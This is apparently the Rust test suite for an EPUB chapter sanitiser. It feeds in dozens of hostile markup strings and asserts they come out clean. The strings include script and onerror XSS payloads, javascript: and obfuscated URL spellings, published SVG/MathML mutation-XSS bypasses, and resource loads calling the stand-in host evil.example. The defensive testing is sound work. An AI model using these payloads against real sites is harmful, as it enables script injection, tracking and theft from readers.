//! What an attacker writes into a chapter, and what is left of it.

mod support;

use support::{Epub, PNG, cleaned, judge, polyglot, rendered};

/// [`cleaned`] itself judges: nothing that runs or reaches outside, and one tree for both parsers.
#[test]
fn nothing_that_runs_survives() {
    let attacks = [
        "<script>alert(1)</script><script/>",
        "<p onclick=\"alert(1)\" ONMOUSEOVER='x' on-x='y'>t</p>",
        "<a href=\"javascript:alert(1)\">x</a><a href=\" java&#10;script&colon;alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a><a href=\"JaVaScRiPt:alert(1)\">x</a><a href=\"vbscript:x\">y</a>",
        "<a href=\"data:text/html,&lt;script>alert(1)&lt;/script>\">x</a>",
        "<a href=\"https://ok.example/\" target=\"_top\" ping=\"https://evil.example\" download=\"x\">x</a>",
        "<iframe src=\"x\" srcdoc=\"&lt;script>\">f</iframe><embed src=\"x.swf\"/><object data=\"x.swf\"><p>kept</p></object>",
        "<form action=\"https://evil.example\"><input autofocus=\"\" onfocus=\"x\"/><button formaction=\"javascript:x\">b</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"/><base href=\"https://evil.example/\"/>",
        "<link rel=\"preload\" as=\"image\" href=\"https://evil.example/x\"/><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"/>",
        "<img src=\"https://evil.example/t.gif\" srcset=\"https://evil.example/a 1x, pic.png 2x\" onerror=\"x\" alt=\"a\"/>",
        "<img src=\"//evil.example/t.gif\"/><img src=\"\\\\evil.example/t.gif\"/><img src=\"/\\evil.example\"/>",
        "<video src=\"https://evil.example/v\" poster=\"https://evil.example/p\" autoplay=\"\"/><audio src=\"a.mp3\"/>",
        "<p style=\"background:url(https://evil.example/x)\">t</p><p style=\"background:u\\72l(//evil.example)\">t</p>",
        "<p style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)\">t</p>",
        "<table background=\"https://evil.example/x\"><tr><td>c</td></tr></table>",
        "<noscript><p title=\"&lt;/noscript>&lt;img src=x onerror=alert(1)>\">t</p></noscript>",
        "<template><img src=\"x\" onerror=\"alert(1)\"/></template><xmp><img src=x/></xmp>"
            .replace("src=x/", "src=\"x\"/")
            .leak(),
        "<textarea>&lt;/textarea>&lt;img src=x onerror=alert(1)></textarea><plaintext>x</plaintext>",
        "<blockquote cite=\"javascript:alert(1)\">q</blockquote><img longdesc=\"javascript:x\" alt=\"\"/>",
        "<p xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>alert(1)</x:script><x:p onclick=\"x\">t</x:p></p>",
        "<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(1)</ScRiPt>",
        "<p is=\"evil\" nonce=\"x\" slot=\"y\">t</p><slot/><portal src=\"https://evil.example\"/>",
        "<body onload=\"x\"><p>nested body</p></body><html onclick=\"x\"><head><script>1</script></head></html>",
        "<![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]>",
        "<!-- <script>alert(1)</script> --><?php echo 1 ?><?xml-stylesheet href=\"https://evil.example/x.css\"?>",
    ];
    for attack in attacks {
        let out = cleaned(attack);
        assert!(!out.contains("evil.example"), "{attack}\n{out}");
    }
}

#[test]
fn a_drawing_in_a_data_url_goes_through_the_allowlist() {
    let shown = |svg: &str| {
        let url: String = svg.bytes().map(|byte| format!("%{byte:02X}")).collect();
        cleaned(&format!(
            "<img src=\"data:image/svg+xml;utf8,{url}\" alt=\"d\"/>"
        ))
    };
    let encoded = |text: &str| -> String { text.replace('<', "%3C").replace('=', "%3D") };
    let out = shown(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script>x()</script><style>p{fill:url(https://evil.example/#a)}</style>\
         <image href='https://evil.example/x.png'/><image href='pic.png'/><circle r='4'/></svg>",
    );
    assert!(out.contains("src=\"data:image/svg+xml,%3Csvg"), "{out}");
    assert!(out.contains(&encoded("<circle")), "{out}");
    for gone in ["script", "onload", "evil.example", "pic.png"] {
        assert!(!out.contains(gone), "{gone}: {out}");
    }
    // A drawing within the drawing is not followed, and what is no drawing is dropped.
    let inner = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E";
    let out = shown(&format!(
        "<svg xmlns='http://www.w3.org/2000/svg'><image href=\"{inner}\"/></svg>"
    ));
    assert_eq!(out.matches("svg%2Bxml").count(), 0, "{out}");
    assert!(!shown("<p>no drawing</p>").contains("data:image/svg"));
}

#[test]
fn foreign_content_cannot_smuggle_html() {
    let attacks = [
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x\"><script>alert(1)</script><g onclick=\"x\"/></svg>",
        "<svg><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script><p>t</p></body></foreignObject></svg>",
        "<svg><desc><p>t</p><img src=\"x\" onerror=\"y\"/></desc><title><style>&lt;img src=x onerror=y></style></title></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\" href=\"javascript:x\"><text>t</text></a></svg>",
        "<svg><use xlink:href=\"https://evil.example/x.svg#a\"/><use href=\"data:image/svg+xml,x\"/><use href=\"#ok\"/></svg>",
        "<svg><image xlink:href=\"https://evil.example/x.png\" href=\"pic.png\"/><image href=\"pic.png\" xlink:href=\"pic.png\"/></svg>",
        "<svg><animate attributeName=\"href\" to=\"javascript:x\"/><set attributeName=\"onclick\" to=\"x\"/></svg>",
        "<svg><rect fill=\"url(https://evil.example/#a)\" stroke=\"url(#ok)\" filter=\"u\\72l('//evil.example/#x')\"/></svg>",
        "<svg><style>@import 'https://evil.example/x.css'; rect{fill:url(https://evil.example/#a)}</style><rect/></svg>",
        "<svg><p>breaks out</p><div onclick=\"x\"/><table/></svg><p>after</p>",
        "<math><mtext><p>t</p><script>1</script><img src=\"x\" onerror=\"y\"/></mtext><mi>x</mi></math>",
        "<math><annotation-xml encoding=\"text/html\"><svg><script>1</script></svg></annotation-xml><mglyph src=\"https://evil.example\"/></math>",
        "<math href=\"javascript:x\" xlink:href=\"javascript:x\"><maction actiontype=\"statusline#https://evil.example\"><mi>a</mi></maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"/></mglyph></table></mtext></math>"
            .replace("<!--", "").leak(),
        "<svg><math><mi>x</mi></math><svg><g/></svg></svg><math><svg><g/></svg><mi><svg><script>1</script></svg></mi></math>",
        "<svg><feImage href=\"https://evil.example/x\"/><cursor href=\"https://evil.example\"/><mpath href=\"x\"/><tref href=\"x\"/></svg>",
        "<svg><text><textPath xlink:href=\"https://evil.example#p\">t</textPath></text><linearGradient href=\"//evil.example#g\"/></svg>",
    ];
    for attack in attacks {
        let out = cleaned(attack);
        assert!(!out.contains("evil.example"), "{attack}\n{out}");
    }
}

#[test]
fn both_parsers_see_the_same_tree_whatever_is_nested() {
    let cases = [
        "<p>a<div>b</div>c</p>",
        "<h1>a<p>b<h1>c</h1></p>d</h1><p>e</p>",
        "<h2>a<p>b<b>c<h1>d</h1></b></p>e</h2>",
        "<p><b>a<ul><li>x</li></ul>c</b>d</p>",
        "<p><table><tr><td>x</td></tr></table></p>",
        "<table>text<tr>loose<td>x</td></tr><p>p</p><tbody><div>d</div></tbody></table>",
        "<table><td>x</td><tr><td>y</td></tr><caption>c</caption><col/><colgroup>text<col/></colgroup></table>",
        "<div><tr><td>x</td></tr><td>y</td><caption>z</caption><tbody/></div>",
        "<ul><li>a<li>b</li></li></ul><dl><dt>a<dd>b</dd></dt></dl>",
        "<li>a<p><li>b</li></p></li>",
        "<a href=\"c.xhtml\">a<b><a href=\"c.xhtml\">b</a></b></a>",
        "<h1>a<h2>b</h2></h1><h3><div><h4>x</h4></div></h3>",
        "<pre>\n\nkept</pre><pre><b>\n</b></pre>",
        "<ruby>a<rb>b<rt>c</rt></rb><rtc>d<rt>e</rt></rtc></ruby><rt>f</rt>",
        "<ruby>a<li>b<rp/>c</li></ruby><ruby>d<p>e<rt>f</rt>g</p></ruby><ruby>h<dl><dd><rtc>i</rtc></dd></dl></ruby>",
        "<ruby>a<table><tr><td><p>b<rt>c</rt></p></td></tr></table></ruby>",
        "<button>a<p>b<button>c</button></p></button><select><option>x</option></select>",
        "<svg><g><path d=\"M0 0\"/></g></svg><table><svg><g/></svg></table>",
        "<span/><div/><p/><br></br><hr>x</hr><img alt=\"\">x</img>",
        "<nobr>a<nobr>b</nobr></nobr><font>c<font>d</font></font>",
        "<table><tr><td><table><tr><td>i</td></tr></table></td></tr></table>",
        "<p>a&#0;b&#x1F;c&#xFFFE;d&nbsp;e&unknown;f & g &lt;</p>",
        "<video><source src=\"a.mp3\"/><p>fallback</p></video><picture><source srcset=\"pic.png\"/><img src=\"pic.png\" alt=\"\"/></picture>",
        "<details>x<summary>s</summary></details><center>c</center><marquee>m</marquee>",
        "<math><mrow><mi>x</mi><mo>=</mo></mrow></math><p><math><mtable><mtr><mtd><mi>a</mi></mtd></mtr></mtable></math></p>",
        "<p><b><i>x<p>y</p></i></b>z</p><div>w</div>",
        "<address><p>x<address>y</address></p></address>",
        "<table><form><tr><td>x</td></tr></form><thead>t</thead></table>",
    ];
    for case in cases {
        cleaned(case);
    }
}

/// Published ways around other sanitisers: markup that changes its meaning when it is parsed again.
#[test]
fn known_bypasses_of_other_sanitisers_fail() {
    let bypasses = [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><annotation-xml><desc><style></desc></annotation-xml><img src=x onerror=alert(1)></style>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<select><option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>",
        "<a><svg><foreignObject><p><style><b title=\"</style><img src onerror=alert(1)>\">",
        "<svg><title><style><!--</style></title></svg><img src=x onerror=alert(1)>-->",
        "<svg><desc><noembed><b title=\"</noembed><img src=x onerror=alert(1)>\"></noembed></desc></svg>",
        "<table><caption><svg><title><table><caption></caption></table></title></svg><style><a title=\"</style><img src=x onerror=alert(1)>\"></caption></table>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>--><!--a--!><img src=x onerror=alert(1)>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
        "<?xml version='1.0'?><?x ><img src=x onerror=alert(1)>?>",
        "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]><p>&x;</p>",
        "<template><template><p></template><img src=x onerror=alert(1)></template>",
        "<img src=x:x onerror\u{C}=alert(1)><img/src=x/onerror=alert(1)><img src=`x`onerror=alert(1)>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a><a href=java\u{A0}script:alert(1)>x</a>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x\"></use></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)><image href=x onerror=alert(1)></svg>",
        "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
        "<p style=\"x:\\22 ;y:url(http://evil.example/\\22 )\">t</p>",
        "<p style='background:url(\"javascript:alert(1)\")'>t</p>",
        "<link rel=import href=http://evil.example/x><base href=javascript:alert(1)//><meta http-equiv=Set-Cookie content=a=b>",
        "<object data=data:text/html,<script>alert(1)</script>></object><embed src=javascript:alert(1)>",
        "<isindex action=javascript:alert(1) type=image><input type=image src=http://evil.example/x>",
        "<img srcset=\"pic.png 1x,http://evil.example/x 2x,javascript:alert(1) 3x\" sizes=\"(min-width:1px)\">",
        "<video><source onerror=alert(1) src=http://evil.example/v></video><audio src=x onerror=alert(1)>",
        "<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>x</marquee><body onpageshow=alert(1)>",
        "<div id=body name=cookie><a id=location href=\"javascript:alert(1)\">x</a><img name=getElementById alt=x></div>",
    ];
    for bypass in bypasses {
        for markup in [
            bypass.to_owned(),
            format!("<div>{bypass}</div>"),
            format!("<svg>{bypass}"),
            format!("<math><mi>{bypass}"),
            format!("<table>{bypass}"),
        ] {
            let page = format!("<html><head><title>t</title></head><body>{markup}</body></html>");
            let book = Epub::new()
                .item("pic.png", "image/png", "", PNG)
                .page("c.xhtml", page)
                .build();
            let (_, files) = rendered(&book);
            let slice = files.text("slices/0.html");
            judge::check(&slice).unwrap_or_else(|found| panic!("{markup}\n{found}"));
            polyglot::check(&slice).unwrap_or_else(|found| panic!("{markup}\n{found}\n{slice}"));
        }
    }
}

#[test]
fn no_spelling_of_a_script_address_is_followed() {
    let spellings = [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "\u{1}\u{1F} javascript:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript:alert(1)",
        "javascript\r:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#x000006Aavascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "javascript:alert(1)//http://x",
        "vbscript:x",
        "livescript:x",
        "data:text/html,x",
        "data:text/html;base64,PHg+",
        "data:image/svg+xml,x",
        "blob:https://x/1",
        "filesystem:x",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "jar:x",
        "about:blank",
        "file:///etc/passwd",
        "intent:x",
        "ws://evil.example",
        "ftp://evil.example",
        "//evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "\u{200B}javascript:alert(1)",
        "%6Aavascript:alert(1)",
        "javascript%3Aalert(1)",
        "epubcfi:x",
        "res:///Data/x",
        "kindle:embed:0001",
    ];
    for spelling in spellings {
        let out = cleaned(&format!(
            "<p><a href=\"{spelling}\">x</a></p><svg><a xlink:href=\"{spelling}\"><text>y</text></a></svg>"
        ));
        assert!(!out.contains(" href="), "{spelling:?}: {out}");
    }
}

#[test]
fn text_is_never_lost_by_moving() {
    let out = cleaned(
        "<table>one<tr>two<td>three</td></tr><p>four</p></table><p>five<div>six</div>seven</p>",
    );
    for word in ["one", "two", "three", "four", "five", "six", "seven"] {
        assert!(out.contains(word), "{word} in {out}");
    }
}

#[test]
fn svg_files_go_through_the_same_list() {
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"x\">\
        <style>@import url(//evil.example/a.css);rect{fill:url(http://evil.example/a)}</style><script>1</script>\
        <image xlink:href=\"http://evil.example/x.png\"/><image xlink:href=\"pic.png\"/>\
        <a href=\"c.xhtml\"><text>to a chapter</text></a><rect class=\"a\"/></svg>";
    let book = Epub::new()
        .item("pic.png", "image/png", "", PNG)
        .item("d.svg", "image/svg+xml", "", drawing)
        .chapter("c.xhtml", "<p><img src=\"d.svg\" alt=\"d\"/></p>")
        .build();
    let (_, files) = rendered(&book);
    let svg = files.text("resources/1.svg");
    assert!(
        !svg.contains("evil.example") && !svg.contains("script") && !svg.contains("onload"),
        "{svg}"
    );
    assert!(
        svg.contains("<rect class=\"a\"></rect>") && svg.contains("href=\"0.png\""),
        "{svg}"
    );
    // Below `resources/` there is no slice to lead to.
    assert!(svg.contains("<a><text>"), "{svg}");
    assert!(
        svg.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""),
        "{svg}"
    );
}

#[test]
fn a_drawing_in_the_spine_is_wrapped_and_clean() {
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script><text id=\"t\">words</text></svg>";
    let book = Epub::new()
        .item("d.svg", "image/svg+xml", "", drawing)
        .place("d.svg", "")
        .build();
    let (_, files) = rendered(&book);
    let slice = files.text("slices/0.html");
    judge::check(&slice).unwrap();
    polyglot::check(&slice).unwrap();
    assert!(slice.contains("<text id=\"t\">words</text>"), "{slice}");
}

#[test]
fn page_attributes_are_filtered_too() {
    let page = "<html xmlns=\"http://www.w3.org/1999/xhtml\" lang=\"fr\" onclick=\"x\"><head><title>&lt;/title>&lt;script></title>\
        <style media=\"print&quot;>\">p{background:url(http://evil.example/x)}</style></head>\
        <body onload=\"x\" class=\"c&quot;>&lt;script>\" style=\"background:url(//evil.example)\"><p>t</p></body></html>";
    let (_, files) = rendered(&Epub::new().page("c.xhtml", page).build());
    let slice = files.text("slices/0.html");
    judge::check(&slice).unwrap();
    polyglot::check(&slice).unwrap();
    assert!(
        slice.contains(" lang=\"fr\"") && !slice.contains("evil.example"),
        "{slice}"
    );
    assert!(!files.text("resources/s0-0.css").contains("evil.example"));
}
